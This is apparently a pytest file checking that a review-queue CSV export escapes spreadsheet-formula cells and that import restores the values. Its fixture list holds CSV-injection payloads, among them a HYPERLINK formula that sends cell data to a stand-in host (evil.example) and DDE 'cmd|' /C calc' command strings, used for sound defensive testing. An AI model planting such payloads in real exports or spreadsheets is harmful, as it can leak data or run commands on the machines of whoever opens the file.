"""The review CSV is safe to open in a spreadsheet (issue 16, item 8: CSV injection).

Export escapes cells a spreadsheet would run as a formula (OWASP CSV injection: a leading
`=`, `+`, `-`, `@`, tab or carriage return gets a leading single quote; every cell is
quoted, so a separator inside a cell never starts a new cell); import strips the escape,
so export -> import gives the original values; reviewer names and notes that would run
as formulas are rejected (names) or neutralised (notes).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import pytest

from feedback_lakehouse.activation.review import (
    EDIT_COLUMNS,
    QUEUE_COLUMNS,
    escape_cell,
    export_queue,
    import_decisions,
    unescape_cell,
)

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1 555 0100 called twice",
    "-2 stars, the app crashed",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
    "fine start;=1+1 after a separator",
    "fine start,=1+1 after a comma",
    "'=already quoted by the customer",
    "''+two quotes",
    "plain text",
    "",
]


def _queue_db(path: Path, texts: list[str]) -> Path:
    con = duckdb.connect(str(path))
    try:
        types = {"queue_rank": "integer", "is_within_daily_budget": "boolean"}
        columns = ", ".join(f"{c} {types.get(c, 'varchar')}" for c in QUEUE_COLUMNS)
        con.execute(f"create table main.rpt_review_queue ({columns})")
        con.execute(
            "create table main.fct_feedback (feedback_id varchar, taxonomy_version varchar)"
        )
        con.execute("create schema main_taxonomy")
        con.execute(
            "create table main_taxonomy.taxonomy_categories "
            "(taxonomy_version varchar, category_id varchar)"
        )
        con.execute("insert into main_taxonomy.taxonomy_categories values ('t1', 'billing')")
        for rank, text in enumerate(texts, start=1):
            fid = f"shop:R-{rank}"
            row = {c: None for c in QUEUE_COLUMNS}
            row.update(queue_rank=rank, feedback_id=fid, masked_text=text, source="@src")
            marks = ", ".join("?" for _ in QUEUE_COLUMNS)
            con.execute(
                f"insert into main.rpt_review_queue values ({marks})",
                [row[c] for c in QUEUE_COLUMNS],
            )
            con.execute("insert into main.fct_feedback values (?, 't1')", [fid])
    finally:
        con.close()
    return path


@pytest.mark.parametrize("value", HOSTILE)
def test_escape_then_unescape_is_the_identity(value: str) -> None:
    escaped = escape_cell(value)
    assert not escaped.startswith(TRIGGERS)
    assert unescape_cell(escaped) == value


def test_export_escapes_every_formula_cell(tmp_path: Path) -> None:
    db = _queue_db(tmp_path / "w.duckdb", HOSTILE)
    out = tmp_path / "queue.csv"
    assert export_queue(db, out) == len(HOSTILE)
    raw = out.read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    # no cell starts as a formula, whatever its column (text, ids, source)
    assert [c for c in cells if c.startswith(TRIGGERS)] == []
    text_at = header.index("masked_text")
    assert body[0][text_at] == "'" + HOSTILE[0]
    assert body[2][text_at] == "'+1 555 0100 called twice"
    assert body[5][text_at] == "'\t=1+1 after a tab"
    assert body[9][text_at] == "''=already quoted by the customer"
    assert body[11][text_at] == "plain text"  # ordinary text is left alone
    assert {row[header.index("source")] for row in body} == {"'@src"}
    # every cell quoted: opened with ';' as the separator, the text stays one cell
    assert '"fine start;=1+1 after a separator"' in raw


def test_export_then_import_gives_the_original_values(tmp_path: Path) -> None:
    db = _queue_db(tmp_path / "w.duckdb", HOSTILE)
    out = tmp_path / "queue.csv"
    export_queue(db, out)
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    con = duckdb.connect(str(db), read_only=True)
    try:
        queue = con.execute(
            f"select {', '.join(QUEUE_COLUMNS)} from main.rpt_review_queue order by queue_rank"
        ).fetchall()
    finally:
        con.close()
    # every exported cell, unescaped, is the original value
    read_back = [[unescape_cell(c) for c in row[: len(QUEUE_COLUMNS)]] for row in rows[1:]]
    assert read_back == [["" if v is None else str(v) for v in row] for row in queue]
    for row in rows[1:]:  # what a reviewer does: fill in the decision columns
        row[header.index("reviewer")] = "ann"
        row[header.index("verdict")] = "useful"
        row[header.index("note")] = escape_cell("-1 for the wording")
    with out.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    result = import_decisions(out, tmp_path / "landing", db_path=db)
    assert result.errors == [] and result.decisions == len(HOSTILE)
    with result.written.open(encoding="utf-8", newline="") as handle:
        decisions = list(csv.DictReader(handle))
    assert [d["feedback_id"] for d in decisions] == [row[1] for row in queue]
    # the note started with '-': stored neutralised, never as a formula
    assert {d["note"] for d in decisions} == {"'-1 for the wording"}
    assert set(EDIT_COLUMNS) <= set(decisions[0])


def test_import_rejects_formula_reviewer_names(tmp_path: Path) -> None:
    path = tmp_path / "decisions.csv"
    path.write_text(
        "feedback_id,reviewer,verdict,note\n"
        'shop:f1,=HYPERLINK("http://evil"),useful,\n'
        "shop:f2,@bob,useful,\n"
        "shop:f3,ann,useful,=1+1\n",
        encoding="utf-8",
    )
    result = import_decisions(path, tmp_path / "landing")
    assert result.written is None and result.decisions == 0
    assert len(result.errors) == 2
    assert result.errors[0].startswith("row 1 (shop:f1): reviewer")
    assert "spreadsheet formula" in result.errors[0]
    assert result.errors[1].startswith("row 2 (shop:f2): reviewer")
    assert not (tmp_path / "landing").exists()


def test_export_within_budget_writes_only_todays_items(tmp_path: Path) -> None:
    """`--within-budget`: only the items each owner team can review today, in queue
    order; without it the whole queue (the backlog too)."""
    db = _queue_db(tmp_path / "w.duckdb", ["first", "second", "third", "fourth"])
    con = duckdb.connect(str(db))
    try:
        con.execute(
            "update main.rpt_review_queue set is_within_daily_budget = queue_rank in (1, 3)"
        )
    finally:
        con.close()
    out = tmp_path / "today.csv"
    assert export_queue(db, out, within_budget=True) == 2
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["masked_text"] for r in rows] == ["first", "third"]
    assert {r["is_within_daily_budget"] for r in rows} == {"True"}
    assert export_queue(db, tmp_path / "all.csv") == 4


def test_needs_refinement_is_a_verdict_from_import_to_bronze(tmp_path: Path) -> None:
    """Issue 19: the seed's third verdict, `needs refinement`, was rejected by import and
    by the bronze reader; it is accepted (spelled with a space or an underscore) and
    stored as `needs_refinement`."""
    from feedback_lakehouse.ingest.landing import read_source

    path = tmp_path / "decisions.csv"
    path.write_text(
        "feedback_id,reviewer,verdict,corrected_category\n"
        "shop:f1,ann,needs refinement,billing\n"
        "shop:f2,ann,Needs_Refinement,\n"
        "shop:f3,ann,useful,\n",
        encoding="utf-8",
    )
    landing = tmp_path / "landing"
    result = import_decisions(path, landing)
    assert result.errors == []
    assert result.written is not None and result.decisions == 3
    with result.written.open(encoding="utf-8", newline="") as handle:
        verdicts = [row["verdict"] for row in csv.DictReader(handle)]
    assert verdicts == ["needs_refinement", "needs_refinement", "useful"]
    frame = read_source("reviews", landing)
    assert len(frame) == 3
    assert not frame["_is_rejected"].any(), frame["_reject_reason"].tolist()
